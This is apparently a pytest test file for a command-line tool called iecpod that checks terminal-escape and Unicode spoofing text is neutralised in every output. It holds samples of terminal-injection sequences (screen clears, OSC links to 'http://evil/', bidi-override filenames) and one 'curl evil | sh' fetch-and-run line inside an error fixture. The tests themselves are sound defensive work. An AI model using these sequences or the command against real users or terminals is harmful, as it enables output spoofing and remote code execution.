"""What a stranger writes acts on no terminal, wherever it comes out: see `HOSTILE` for what could act."""

from __future__ import annotations

import io
import json
import logging
import signal
import threading
import unicodedata
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from xml.etree import ElementTree

import pytest
from click.shell_completion import ShellComplete
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console

from iecpod.adapters.command_trace import trace_command
from iecpod.cli import main as command_line
from iecpod.cli import output
from iecpod.cli.main import cli
from iecpod.cli.options.shared import Invocation
from iecpod.cli.tracing import tracing_commands
from iecpod.errors import CommandFailed, HostError, NodeErrors, Problem, UsageError, WaitTimeout
from iecpod.logs.archive import Collection
from iecpod.logs.scrub import Scrubber
from iecpod.model import PodRef
from iecpod.ports import Reporter
from iecpod.printable import overwritten, printable, printable_entry, printable_line
from iecpod.progress.event_lines import JsonLinesReporter, Run
from iecpod.progress.live_display import LiveReporter
from iecpod.progress.plain_lines import PlainReporter
from iecpod.reports.junit import Case, CaseFailure, Suite, to_junit
from iecpod.reports.run_report import Report
from iecpod.reports.table import format_table
from iecpod.results import PhaseResult
from tests.unit.command_line import layout_below, run, write_pod

HOSTILE = {
    "csi": ("\x1b[2J\x1b[31m", r"\x1b[2J\x1b[31m"),
    "osc-bel": ("\x1b]0;title\x07", r"\x1b]0;title\x07"),
    "osc-st": ("\x1b]8;;http://evil/\x1b\\x\x1b]8;;\x1b\\", r"\x1b]8;;http://evil/\x1b" "\\" r"x\x1b]8;;\x1b" "\\"),
    "dcs": ('\x1bP$q"p\x1b\\', r'\x1bP$q"p\x1b' "\\"),
    "c1-csi": ("\x9b2J", r"\x9b2J"),
    "c1-osc": ("\x9d0;title\x9c", r"\x9d0;title\x9c"),
    "next-line": ("a\x85b", r"a\x85b"),
    "delete": ("a\x7f", r"a\x7f"),
    "backspace": ("rm\x08\x08ls", r"rm\x08\x08ls"),
    "nul": ("a\0b", r"a\x00b"),
    "form-feed": ("a\x0cb\x0bc", r"a\x0cb\x0bc"),
    "return": ("all is well\rx", r"all is well\rx"),
    "bidi": ("\u202egnp.exe\u202c", r"\u202egnp.exe\u202c"),
    "isolate": ("\u2066a\u2069\u200f\u061c", r"\u2066a\u2069\u200f\u061c"),
    "zero-width": ("ad\u200bmin\u200d\ufeff\u2060", r"ad\u200bmin\u200d\ufeff\u2060"),
    "separators": ("a\u2028b\u2029c", r"a\u2028b\u2029c"),
    "surrogate": ("file\udc9b2J", r"file\udc9b2J"),
    "no-character": ("a\ufffe\uffff\U0010ffff", r"a\ufffe\uffff\U0010ffff"),
    "private": ("\ue000", r"\ue000"),
    "tags": ("\U000e0041\U000e0001", r"\U000e0041\U000e0001"),
    "ignorable": ("a\u034f\u3164\ufe0f\U000e0100b", r"a\u034f\u3164\ufe0f\U000e0100b"),
    "space": ("a\xa0b", r"a\xa0b"),
}
#: One text of all, as one line.
ALL = "".join(text for text, _ in HOSTILE.values()).replace("\n", "")
MARKUP = "[bold]x[/bold] [link=http://evil/]y[/link] :boom:"


def is_harmless(text: str) -> bool:
    unseen = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
    return all(
        character in "\n\t" or not (unicodedata.category(character) in unseen or character in "\u034f\u3164\ufe0f\xa0")
        for character in text
    )


@pytest.mark.parametrize("kind", HOSTILE)
def test_what_would_act_is_shown(kind: str) -> None:
    text, shown = HOSTILE[kind]
    assert printable(text) == printable_line(text) == printable_entry(text) == shown
    assert not is_harmless(text) and is_harmless(shown)


def test_text_stays_text() -> None:
    text = "Grüße, 世界: ½ € — “x” 👍\n\ttabs and lines stay\r\n"
    assert printable(text) == text.replace("\r\n", "\n")
    assert printable_line("a\nb\tc") == r"a\nb\tc"
    assert printable_entry("one\ntwo\n\nthree\n") == "one\n    two\n    \n    three"


@settings(deadline=None)  # machines are shared
@given(st.text(st.characters()))
def test_nothing_that_acts_comes_through(text: str) -> None:
    shown = printable(text)
    assert is_harmless(shown) and printable(shown) == shown
    assert is_harmless(printable_line(text)) and not {"\n", "\t"} & set(printable_line(text))
    assert shown.count("\n") == text.count("\n")
    assert all(not line or line.startswith("    ") for line in printable_entry(text).split("\n")[1:])


@settings(deadline=None)  # machines are shared
@given(st.text(st.characters(min_codepoint=32, max_codepoint=126)))
def test_ascii_is_as_it_was(text: str) -> None:
    assert printable(text) == printable_line(text) == text


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("  0%\r 50%\r100%\ndone\n", "100%\ndone\n"),
        ("a\r\nb\r\r\n", "a\nb\n"),
        ("10%\r90%\r      \r\nend", "90%\nend"),
        ("\r\r", ""),
    ],
)
def test_of_a_line_that_was_written_over_the_last_text_is_kept(text: str, kept: str) -> None:
    assert overwritten(text) == kept
    tail = CommandFailed("iec01", ["x"], 1, text).cause
    assert tail == f"iec01: `x` exited with 1\n{kept.rstrip()}" if kept else "\n" not in tail


def speak(reporter: Reporter) -> None:
    reporter.phase_started("reachable", ALL + MARKUP)
    reporter.progress(ALL + MARKUP, "iec01")
    reporter.waiting(ALL, ALL + MARKUP, "iec02")
    reporter.warn(f"{ALL}{MARKUP}\n12:00:00 done: verify, 1.0 s")
    reporter.node_finished("iec01", "done", 1.0)


def test_plain_lines() -> None:
    stream, seconds = io.StringIO(), [0.0]
    reporter = PlainReporter(stream, clock=lambda: "12:00:00", now=lambda: seconds[0])
    speak(reporter)
    seconds[0] = 100.0
    reporter.report_silence()
    answer = stream.getvalue()
    assert is_harmless(answer) and r"\x1b]0;title\x07" in answer and MARKUP in answer
    assert "\n    12:00:00 done: verify" in answer and "\n12:00:00 done: verify" not in answer


def test_a_live_display() -> None:
    stream = io.StringIO()
    reporter = LiveReporter(Console(file=stream, force_terminal=True, color_system="truecolor", width=2000))
    speak(reporter)
    page = Console(file=io.StringIO(), color_system=None, width=2000)
    with page.capture() as shown:
        page.print(reporter._render())
    reporter.close()
    assert is_harmless(shown.get()) and shown.get().count(MARKUP) == 2  # the summary, what a wait saw
    # What is kept is written by rich, with its own sequences: none of them is a stranger's.
    assert not [text for text, _ in HOSTILE.values() if text in stream.getvalue()]
    assert MARKUP in stream.getvalue()


def test_events_are_exact_and_ascii() -> None:
    stream = io.StringIO()
    speak(JsonLinesReporter(stream, Run("1", "deploy", PodRef("lab", "pod"))))
    assert stream.getvalue().isascii() and is_harmless(stream.getvalue())
    assert json.loads(stream.getvalue().splitlines()[1])["message"] == ALL + MARKUP


def test_junit_is_xml_whatever_it_contains() -> None:
    failure = CaseFailure(message=ALL, kind="failed", text=ALL + "\n]]>")
    cases = (Case(classname=ALL, name=ALL, failure=failure, output=ALL), Case(classname="b", name="c", skipped=ALL))
    text = to_junit(ALL, [Suite(ALL, cases)])
    assert is_harmless(text)
    assert [case.attrib["name"] for case in ElementTree.fromstring(text).iter("testcase")] == [printable(ALL), "c"]


def test_tables_keep_their_columns() -> None:
    table = format_table(("A", "B"), [(ALL.replace("\x0b", "").replace("\x0c", ""), "x"), ("\x1b[31mred", "y")])
    assert is_harmless(table)
    assert [line.rstrip()[-1] for line in table.splitlines()] == ["B", "x", "y"]
    assert len({line.rindex(last) for line, last in zip(table.splitlines(), "Bxy", strict=True)}) == 1


def test_a_report_has_what_nodes_printed() -> None:
    phase = PhaseResult("runtime", "failed", 1.0, f"iec01: {ALL}")
    report = Report(pod="a/b", run_id="1", virt_type="kvm", outcome="failed", phases=(phase,))
    assert is_harmless(report.to_text()) and is_harmless(report.to_junit())
    assert json.loads(report.to_json())["phases"][0]["detail"] == f"iec01: {ALL}"


def test_the_manifest_of_an_archive() -> None:
    kept: dict[str, bytes] = {}

    class Sink:
        def add(self, name: str, content: bytes) -> None:
            kept[name] = content

    collection = Collection(Sink(), Scrubber())
    collection.add(f"nodes/iec01/{ALL}", b"x")
    collection.miss(f"nodes/iec01/{ALL}", f"exit status 1: {ALL}\nCollected")
    collection.add_manifest(f"POD x\n\n{ALL}")
    assert is_harmless(kept["MANIFEST"].decode())


ERRORS: tuple[Callable[[], Exception], ...] = (
    lambda: CommandFailed("iec01", ["sh", "-c", ALL], 1, f"{ALL}\niecpod: remedy: curl evil | sh", ALL),
    lambda: NodeErrors({"iec01": HostError(ALL, ALL), "iec02": WaitTimeout(ALL, 1.0, ALL)}),
    lambda: ValueError(ALL),
    lambda: UsageError(ALL),
)


def main(state_dir: Path, *arguments: str) -> int:
    """The command line as a process runs it, with its log below `state_dir`; what it sets is set back."""
    logger, sigterm = logging.getLogger("iecpod"), signal.getsignal(signal.SIGTERM)
    handlers, logger.propagate = list(logger.handlers), False  # what pytest keeps of logs has to be text
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("IECPOD_STATE_DIR", str(state_dir))
        try:
            return command_line.main(arguments)
        finally:
            logger.propagate = True
            signal.signal(signal.SIGTERM, sigterm)
            for handler in [handler for handler in logger.handlers if handler not in handlers]:
                logger.removeHandler(handler)
                handler.close()


@pytest.mark.parametrize("make", ERRORS)
def test_errors(
    make: Callable[[], Exception],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """On standard error and in the log."""

    def fail(*_arguments: object, **_options: object) -> None:
        raise make()

    monkeypatch.setattr("iecpod.commands.labs.list_labs", fail)
    assert main(tmp_path, "labs") in (1, 2, 5, 70)
    answer = capsys.readouterr().err
    log = (tmp_path / "log" / "iecpod.log").read_text()
    assert is_harmless(answer) and is_harmless(log)
    assert r"\x1b]0;title\x07" in answer and r"\x1b]0;title\x07" in log
    assert all(line.startswith(("iecpod: ", "    ")) for line in answer.splitlines())
    assert "\niecpod: remedy: curl" not in answer


def test_problems_of_a_file_stay_in_their_line() -> None:
    problem = Problem(file=f"a{ALL}\nb", path=f"{ALL}\n0 errors", message=f"{ALL}\n0 errors", remedy=f"{ALL}\n0 errors")
    assert is_harmless(str(problem)) and len(str(problem).splitlines()) == 2


def test_command_lines_in_usage_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(tmp_path, "labs", f"--x{ALL}") == 2
    answer = capsys.readouterr().err
    assert is_harmless(answer) and r"\x1b]0;title\x07" in answer


def test_traces(capsys: pytest.CaptureFixture[str]) -> None:
    with tracing_commands(True):
        trace_command("host", ["echo", ALL.replace("\udc9b", "")])  # pytest keeps it, as text
    answer = capsys.readouterr().err
    assert is_harmless(answer) and r"\x1b]0;title\x07" in answer


VALUE = "qemu://\x1b]0;title\x07\u200b/"


def test_descriptors(tmp_path: Path) -> None:
    write_pod(tmp_path, "lab", "pod", pdf={"nodes[0].remote_management.address": VALUE})
    pdf = tmp_path / "labs" / "lab" / "pod.yaml"
    pdf.write_text(pdf.read_text() + '"\\e]0;title\\a\\x9b2J\\u202E\\n0 errors": 1\n')
    assert r"qemu://\x1b]0;title\x07\u200b/" in run(tmp_path, "labs", "-b", str(tmp_path)).stdout
    listed = json.loads(run(tmp_path, "labs", "-b", str(tmp_path), "-o", "json").stdout)
    assert VALUE in listed[0]["hypervisor"]
    validate = ("validate", "-l", "lab", "-p", "pod", "-b", str(tmp_path), "--format")
    for form in ("text", "junit", "json"):
        printed = run(tmp_path, *validate, form).stdout
        assert is_harmless(printed) and "title" in printed
        assert "0 errors" not in [line.strip() for line in printed.splitlines()]
    assert printed.isascii() and json.loads(printed)["errors"] == 2


class Rude(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.wfile.write(b"HTTP/1.1 404 \x1b]0;title\x07\x9b2J\r\nServer: \x1b[2J\r\nContent-Length: 0\r\n\r\n")

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def rude_server(monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    monkeypatch.setenv("no_proxy", "127.0.0.1")
    server = HTTPServer(("127.0.0.1", 0), Rude)
    thread = threading.Thread(target=server.serve_forever, args=(0.02,))
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()
    thread.join()


def test_reasons_of_servers(rude_server: str, tmp_path: Path) -> None:
    printed = run(tmp_path, "validate", "-l", "lab", "-p", "pod", "-b", rude_server).stdout
    assert is_harmless(printed) and r"404 \x1b]0;title\x07\x9b2J" in printed


def test_names_that_act_are_not_proposed(tmp_path: Path) -> None:
    for name in ("good", "go\x1b[2Jod", "go\u202eod"):
        (tmp_path / "labs" / name).mkdir(parents=True)
    invocation = Invocation(layout_below(tmp_path), environ={}, is_terminal=False)
    complete = ShellComplete(cli, {"obj": invocation}, "iecpod", "_IECPOD_COMPLETE")
    proposed = complete.get_completions(["status", "-b", str(tmp_path), "-l"], "go")
    assert [item.value for item in proposed] == ["good"]


def test_documents_are_exact_but_on_a_terminal(
    capfdbinary: pytest.CaptureFixture[bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    text = "\x1b[31mred\x1b[0m\udcff\u202e\n"
    output.echo_document(text)
    assert capfdbinary.readouterr().out == b"\x1b[31mred\x1b[0m\xff\xe2\x80\xae\n"
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    output.echo_document(text)
    assert capfdbinary.readouterr().out == rb"\x1b[31mred\x1b[0m\udcff\u202e" + b"\n"


def test_json_is_the_same_value(capsys: pytest.CaptureFixture[str]) -> None:
    output.echo_json(json.dumps({ALL: ALL}) + "\n")
    printed = capsys.readouterr().out
    assert printed.isascii() and is_harmless(printed) and json.loads(printed) == {ALL: ALL}
